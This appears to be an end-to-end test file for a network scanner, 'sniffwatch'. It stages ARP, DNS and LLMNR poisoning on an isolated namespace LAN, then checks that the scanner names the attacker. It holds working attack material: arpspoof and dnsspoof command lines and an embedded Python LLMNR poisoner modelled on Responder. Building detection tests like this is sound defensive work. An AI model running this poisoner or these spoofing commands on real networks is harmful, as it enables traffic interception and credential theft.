// End to end: DNS spoofing and LLMNR poisoning (over IPv4 and IPv6
// link-local) on a namespace LAN with real tools (dnsmasq, dig, dsniff's
// arpspoof and dnsspoof), captured on the bridge, then `sniffwatch scan` on
// the capture. Needs root; see README.md.

import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { assertNotBlamed, describe, hasEntity, isAtLeast } from '../helpers/captures.js';
import { assertExit, assertNothingLoud, E2eWorkDir, freshLan, scanCapture, settleAndStop, skipUnless, tcpdumpPackets } from '../helpers/e2e.js';
import { scapyPython, sleep, startDnsmasqDns, waitLinkLocal, ATTACKER, GATEWAY, VICTIM, type Background, type Lan } from '../helpers/netns-lan.js';

const work = new E2eWorkDir('dns');
const workDir = work.path;

const INTRANET = 'intranet.example';
const INTRANET_ADDR = '198.18.0.50';
const FILES = 'files.intranet.example';
const FILES_ADDR = '198.18.0.51';

/** dnsmasq on the gateway, answering only the intranet names and nothing upstream. */
function startDnsmasq(lan: Lan): Promise<Background> {
  return startDnsmasqDns(lan, workDir, [
    [FILES, FILES_ADDR],
    [INTRANET, INTRANET_ADDR],
  ]);
}

/**
 * One `dig` from the victim: the A records it got, in order. Without EDNS:
 * dnsspoof only answers queries that carry nothing but the question, like
 * those of glibc's stub resolver.
 */
async function dig(lan: Lan, name: string): Promise<string[]> {
  const argv = ['dig', `@${GATEWAY.ip}`, name, 'A', '+noedns', '+short', '+tries=1', '+time=2'];
  const r = await lan.exec('victim', argv, { timeoutMs: 10_000, okCodes: [0, 9] });
  return r.stdout.split('\n').map((l) => l.trim()).filter((l) => /^\d+\.\d+\.\d+\.\d+$/.test(l));
}

/** DNS answers in the capture, read with tcpdump so the check does not depend on our own decoder. */
function dnsAnswersOnWire(pcap: string): string[] {
  return tcpdumpPackets(pcap, 'udp port 53').filter((l) => / A \d+\.\d+\.\d+\.\d+/.test(l));
}

test('benign: dnsmasq answering dig on the LAN yields no medium+ finding', { timeout: 90_000 }, async (t) => {
  if (!(await skipUnless(t, ['dnsmasq', 'dig']))) return;
  const lan = await freshLan(t);
  const dnsmasq = await startDnsmasq(lan);
  const pcap = join(workDir, 'dns-benign.pcap');
  const cap = await lan.startCapture(pcap);
  const got: string[][] = [];
  for (let i = 0; i < 4; i++) {
    got.push(await dig(lan, INTRANET), await dig(lan, FILES));
    await sleep(300);
  }
  await lan.exec('attacker', ['ping', '-n', '-c', '2', '-i', '0.5', GATEWAY.ip], { timeoutMs: 10_000 });
  await settleAndStop(cap);
  await dnsmasq.stop('SIGTERM', 5000);

  await t.test('dig got the real answers', () => {
    assert.ok(got.every((a) => a.length === 1 && (a[0] === INTRANET_ADDR || a[0] === FILES_ADDR)), JSON.stringify(got));
  });
  await t.test('scan reports nothing medium or above, exit 0', (st) =>
    work.withPcap(st, pcap, () => {
      assert.ok(dnsAnswersOnWire(pcap).length >= 8, 'expected the DNS answers in the capture');
      const r = scanCapture(pcap);
      assertNothingLoud(r.findings);
      assertExit(r, 0);
    }),
  );
});

test('arpspoof + dnsspoof: the spoofed intranet name is reported with the attacker address', { timeout: 120_000 }, async (t) => {
  if (!(await skipUnless(t, ['dnsmasq', 'dig', 'arpspoof', 'dnsspoof']))) return;
  const lan = await freshLan(t);
  const dnsmasq = await startDnsmasq(lan);
  const hosts = join(workDir, 'dnsspoof.hosts');
  writeFileSync(hosts, `${ATTACKER.ip}\t${INTRANET}\n${ATTACKER.ip}\t*.${INTRANET}\n`);
  const pcap = join(workDir, 'dnsspoof.pcap');
  const cap = await lan.startCapture(pcap);
  // Normal life first: the attacker's own address is on the wire and the victim resolves through dnsmasq.
  await lan.exec('attacker', ['ping', '-n', '-c', '2', '-i', '0.3', GATEWAY.ip], { timeoutMs: 10_000 });
  const before = [await dig(lan, INTRANET), await dig(lan, FILES)];

  // On-path: poison the victim's binding of the gateway (its resolver) and answer its DNS queries.
  const arpspoof = lan.spawn('attacker', ['arpspoof', '-i', 'eth0', '-t', VICTIM.ip, GATEWAY.ip], 'arpspoof');
  await arpspoof.waitFor(/is-at/, 10_000);
  const dnsspoof = lan.spawn('attacker', ['dnsspoof', '-i', 'eth0', '-f', hosts], 'dnsspoof');
  await dnsspoof.waitFor(/listening on/, 10_000);
  await sleep(2500);
  // A second capture that starts now, with the attack already running: no answer from before the
  // attack and no start of the ARP poisoning in it, as when a sensor is switched on mid-attack.
  const midPcap = join(workDir, 'dnsspoof-mid-attack.pcap');
  const midCap = await lan.startCapture(midPcap);
  // First the attacker forwards what it intercepts: the query reaches dnsmasq too, and two answers race
  // (dnsmasq on the same LAN usually wins, so dig keeps the real one). Then it stops forwarding, as a
  // spoofer does to make sure its answer is the only one, and dig gets the forged address.
  await lan.sysctl('attacker', 'net.ipv4.ip_forward', '1');
  const forwarding: string[][] = [];
  for (let i = 0; i < 4; i++) {
    forwarding.push(await dig(lan, i % 2 === 0 ? INTRANET : FILES));
    await sleep(400);
  }
  await lan.sysctl('attacker', 'net.ipv4.ip_forward', '0');
  // The victim's cache flips back to the real gateway whenever the gateway ARPs for it, and Linux
  // ignores a changed reply within a second of that (locktime); arpspoof re-poisons every 2 s, so
  // querying for several seconds is sure to hit the poisoned window.
  const spoofOnly: string[][] = [];
  for (let i = 0; i < 8; i++) {
    spoofOnly.push(await dig(lan, i % 2 === 0 ? INTRANET : FILES));
    await sleep(600);
  }
  await dnsspoof.stop('SIGINT', 5000);
  const exit = await arpspoof.stop('SIGINT', 15_000);
  await settleAndStop(cap);
  await midCap.stop();
  await dnsmasq.stop('SIGTERM', 5000);
  t.diagnostic(`dig before: ${JSON.stringify(before)} forwarding: ${JSON.stringify(forwarding)} spoof only: ${JSON.stringify(spoofOnly)}`);
  t.diagnostic(`arpspoof exit ${exit.code ?? exit.signal}; dnsspoof: ${dnsspoof.output().trim().split('\n').slice(-2).join(' | ')}`);

  await t.test('the victim got spoofed answers', () => {
    assert.deepEqual(before, [[INTRANET_ADDR], [FILES_ADDR]]);
    assert.ok(spoofOnly.some((a) => a[0] === ATTACKER.ip), `no spoofed answer reached dig: ${JSON.stringify(spoofOnly)}`);
  });
  await t.test('scan reports DNS spoofing (T1557) naming the attacker address and the spoofed name, and the ARP poisoning', (st) =>
    work.withPcap(st, pcap, () => {
      const r = scanCapture(pcap);
      const all = describe(r.findings);
      assertExit(r, 1);
      const dns = r.findings.filter(
        (f) =>
          f.rule_id.startsWith('dns-') &&
          isAtLeast(f, 'medium') &&
          f.attack.techniques.includes('T1557') &&
          f.entities.some((e) => e.type === 'ip' && e.value === ATTACKER.ip) &&
          f.entities.some((e) => e.type === 'host' && (e.value === INTRANET || e.value === FILES)),
      );
      assert.ok(dns.length > 0, `no dns-* finding naming ${ATTACKER.ip} and the spoofed name:\n${all}`);
      const race = r.findings.find((f) => f.rule_id === 'dns-spoofed-response-race');
      assert.ok(race && race.severity === 'high', `no dns-spoofed-response-race:\n${all}`);
      assert.ok(hasEntity(race, 'mac', ATTACKER.mac, 'attacker'), `race blames the wrong station:\n${race.message}`);
      assert.ok(hasEntity(race, 'ip', ATTACKER.ip, 'spoofed-answer'));
      assert.ok(hasEntity(race, 'ip', VICTIM.ip, 'victim'));
      const contested = r.findings.find((f) => f.rule_id === 'dns-answer-points-to-contested-host');
      assert.ok(contested && hasEntity(contested, 'ip', ATTACKER.ip, 'attacker'), `no dns-answer-points-to-contested-host:\n${all}`);
      const arp = r.findings.find((f) => f.attack.techniques.includes('T1557.002') && isAtLeast(f, 'medium') && hasEntity(f, 'mac', ATTACKER.mac, 'attacker'));
      assert.ok(arp, `the ARP poisoning is no longer reported:\n${all}`);
    }),
  );
  await t.test('a capture started mid-attack still names the spoofer in the race, never the resolver', (st) =>
    work.withPcap(st, midPcap, () => {
      const r = scanCapture(midPcap);
      const all = describe(r.findings);
      const race = r.findings.find((f) => f.rule_id === 'dns-spoofed-response-race');
      assert.ok(race, `no dns-spoofed-response-race in the mid-attack capture:\n${all}`);
      assert.ok(hasEntity(race, 'mac', ATTACKER.mac, 'attacker'), `race blames the wrong station:\n${race.message}`);
      assert.ok(hasEntity(race, 'ip', ATTACKER.ip, 'spoofed-answer'), race.message);
      assertNotBlamed(r.findings, GATEWAY, 'the resolver');
    }),
  );
});

// A stand-in for Responder (not packaged in Debian): it answers every LLMNR
// query for an A record with its own IPv4 address and, given an IPv6 address,
// every AAAA query (asked over IPv4 or IPv6) with that address, in the layout
// of Responder's LLMNR_Ans and LLMNR6_Ans (flags 0x8000, the question echoed,
// the name written out again uncompressed, TTL 30 s), sent back to the asker
// over the transport the query came by. With a name argument it answers only
// that name, as an ordinary host does.
const POISONER = `
import select, socket, struct, sys
from scapy.layers.dns import DNS
own4 = sys.argv[1]
own6 = None if sys.argv[2] == '-' else sys.argv[2]
only = sys.argv[3].lower().encode() if len(sys.argv) > 3 else None
s4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s4.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s4.bind(('', 5355))
s4.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton('224.0.0.252') + socket.inet_aton(own4))
socks = [s4]
if own6:
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s6.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    s6.bind(('::', 5355))
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, 'ff02::1:3') + struct.pack('@I', socket.if_nametoindex('eth0')))
    socks.append(s6)
print('ready', flush=True)
while True:
    for s in select.select(socks, [], [])[0]:
        data, client = s.recvfrom(2048)
        try:
            q = DNS(data)
        except Exception:
            continue
        if q.qr != 0 or q.qdcount != 1 or q.qd.qtype not in (1, 28):
            continue
        qtype = q.qd.qtype
        if qtype == 28 and own6 is None:
            continue
        name = q.qd.qname.rstrip(b'.')
        if only is not None and name.lower() != only:
            continue
        rdata = socket.inet_aton(own4) if qtype == 1 else socket.inet_pton(socket.AF_INET6, own6)
        label = bytes([len(name)]) + name + b'\\x00'
        answer = (data[0:2] + b'\\x80\\x00' + struct.pack('>HHHH', 1, 1, 0, 0) + label + struct.pack('>HH', qtype, 1)
                  + label + struct.pack('>HHIH', qtype, 1, 30, len(rdata)) + rdata)
        s.sendto(answer, client)
        print('answered', client[0], name.decode('latin-1'), 'AAAA' if qtype == 28 else 'A', flush=True)
`;

// The victim's resolver falling back to LLMNR: one multicast query per name
// (A over IPv4 and, given an interface, AAAA over IPv6 link-local), first
// answer kept.
const LLMNR_CLIENT = `
import random, socket, struct, sys
from scapy.layers.dns import DNS, DNSQR
own = sys.argv[1]
ifname = None if sys.argv[2] == '-' else sys.argv[2]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
s.settimeout(1.0)
s6 = None
if ifname:
    index = socket.if_nametoindex(ifname)
    s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, struct.pack('@I', index))
    s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 1)
    s6.settimeout(1.0)
def ask(sock, group, name, qtype, tag):
    q = DNS(id=random.randint(0, 65535), qr=0, rd=0, qd=DNSQR(qname=name, qtype=qtype))
    sock.sendto(bytes(q), group)
    try:
        data, src = sock.recvfrom(2048)
        r = DNS(data)
        print(tag, name, src[0].split('%')[0], r.an.rdata if r.ancount else '-', flush=True)
    except socket.timeout:
        print('timeout' if tag == 'answer' else 'timeout6', name, flush=True)
for name in sys.argv[3:]:
    ask(s, ('224.0.0.252', 5355), name, 'A', 'answer')
    if s6 is not None:
        ask(s6, ('ff02::1:3', 5355, 0, index), name, 'AAAA', 'answer6')
`;

interface LlmnrRun {
  pcap: string;
  answers: string;
  /** The attacker's IPv6 link-local address, when the LAN has IPv6. */
  attackerLl: string | undefined;
}

async function runLlmnr(t: TestContext, name: string, onlyName: string | undefined, queries: string[]): Promise<LlmnrRun> {
  const python = scapyPython()!;
  const ipv6 = existsSync('/proc/net/if_inet6');
  if (!ipv6) t.diagnostic('no IPv6 in the kernel (/proc/net/if_inet6 is missing): LLMNR over IPv4 only');
  const lan = await freshLan(t, { ipv6 });
  const attackerLl = ipv6 ? (await Promise.all([waitLinkLocal(lan, 'attacker'), waitLinkLocal(lan, 'victim')]))[0] : undefined;
  const poisonerPy = join(workDir, 'llmnr-poisoner.py');
  const clientPy = join(workDir, 'llmnr-client.py');
  writeFileSync(poisonerPy, POISONER);
  writeFileSync(clientPy, LLMNR_CLIENT);
  const pcap = join(workDir, `${name}.pcap`);
  const cap = await lan.startCapture(pcap);
  const responder = lan.spawn('attacker', [python, poisonerPy, ATTACKER.ip, attackerLl ?? '-', ...(onlyName ? [onlyName] : [])], 'llmnr responder');
  await responder.waitFor(/ready/, 30_000);
  const r = await lan.exec('victim', [python, clientPy, VICTIM.ip, ipv6 ? 'eth0' : '-', ...queries], { timeoutMs: 60_000 });
  await sleep(300);
  await responder.stop('SIGTERM', 5000);
  await settleAndStop(cap);
  t.diagnostic(`client: ${r.stdout.trim().replace(/\n/g, ' | ')}`);
  return { pcap, answers: r.stdout, attackerLl };
}

test('LLMNR poisoning by a Responder stand-in over IPv4 and IPv6 is reported naming the poisoner', { timeout: 90_000 }, async (t) => {
  if (!(await skipUnless(t, [], { scapy: true }))) return;
  const names = ['fileserv', 'wpad', 'backupsrv', 'printr'];
  const { pcap, answers, attackerLl } = await runLlmnr(t, 'llmnr-poison', undefined, names);
  await t.test('the stand-in answered every name with its own address', () => {
    for (const n of names) assert.match(answers, new RegExp(`answer ${n} ${ATTACKER.ip.replace(/\./g, '\\.')} ${ATTACKER.ip.replace(/\./g, '\\.')}`));
    if (attackerLl) for (const n of names) assert.ok(answers.includes(`answer6 ${n} ${attackerLl} ${attackerLl}`), `no IPv6 answer for ${n}`);
  });
  await t.test('scan reports llmnr-nbtns-poisoning (T1557.001) with the poisoner as attacker', (st) =>
    work.withPcap(st, pcap, () => {
      const r = scanCapture(pcap);
      const all = describe(r.findings);
      const f = r.findings.find((x) => x.rule_id === 'llmnr-nbtns-poisoning' && hasEntity(x, 'ip', ATTACKER.ip, 'attacker'));
      assert.ok(f, `no llmnr-nbtns-poisoning finding naming ${ATTACKER.ip}:\n${all}`);
      assert.equal(f.severity, 'high');
      assert.deepEqual(f.attack.techniques, ['T1557.001']);
      assert.ok(hasEntity(f, 'mac', ATTACKER.mac, 'attacker'), all);
      assert.ok(hasEntity(f, 'ip', VICTIM.ip, 'victim'), all);
      assert.ok(hasEntity(f, 'host', 'wpad', 'poisoned-name'), all);
      assert.match(f.message, /Responder's LLMNR_Ans/);
      assertExit(r, 1);
    }),
  );
  await t.test('scan reports the IPv6 poisoning naming the attacker\'s link-local address and MAC', (st) => {
    if (!attackerLl) {
      st.skip('needs IPv6 in the kernel: /proc/net/if_inet6 is missing');
      return;
    }
    return work.withPcap(st, pcap, () => {
      const r = scanCapture(pcap);
      const all = describe(r.findings);
      const f = r.findings.find((x) => x.rule_id === 'llmnr-nbtns-poisoning' && hasEntity(x, 'ip', attackerLl, 'attacker'));
      assert.ok(f, `no llmnr-nbtns-poisoning finding naming ${attackerLl}:\n${all}`);
      assert.equal(f.severity, 'high');
      assert.ok(hasEntity(f, 'mac', ATTACKER.mac, 'attacker'), all);
      assert.ok(f.entities.some((e) => e.role === 'victim' && e.type === 'ip' && e.value.startsWith('fe80::')), all);
      assert.ok(hasEntity(f, 'host', 'wpad', 'poisoned-name'), all);
      assert.match(f.message, /over IPv6/);
      assert.match(f.message, /LLMNR6_Ans/);
    });
  });
});

test('benign LLMNR: a host answering only its own name yields no medium+ finding', { timeout: 90_000 }, async (t) => {
  if (!(await skipUnless(t, [], { scapy: true }))) return;
  const { pcap, answers, attackerLl } = await runLlmnr(t, 'llmnr-benign', 'attacker', ['attacker', 'nosuchhost', 'attacker', 'otherhost', 'attacker']);
  await t.test('the host answered its own name and nothing else', () => {
    assert.match(answers, /answer attacker /);
    assert.match(answers, /timeout nosuchhost/);
    if (attackerLl) {
      assert.ok(answers.includes(`answer6 attacker ${attackerLl} ${attackerLl}`), 'no IPv6 answer for its own name');
      assert.match(answers, /timeout6 nosuchhost/);
    }
  });
  await t.test('scan reports nothing medium or above', (st) =>
    work.withPcap(st, pcap, () => {
      assertNothingLoud(scanCapture(pcap).findings);
    }),
  );
});
